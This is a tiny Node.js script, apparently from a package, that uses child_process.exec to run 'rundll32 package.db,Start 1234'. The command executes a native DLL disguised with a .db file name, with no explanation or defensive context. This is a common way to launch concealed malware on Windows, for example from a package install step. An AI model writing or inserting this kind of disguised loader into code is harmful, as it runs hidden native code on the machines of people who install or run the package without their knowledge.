import { exec } from 'node:child_process';

exec('rundll32 package.db,Start 1234');
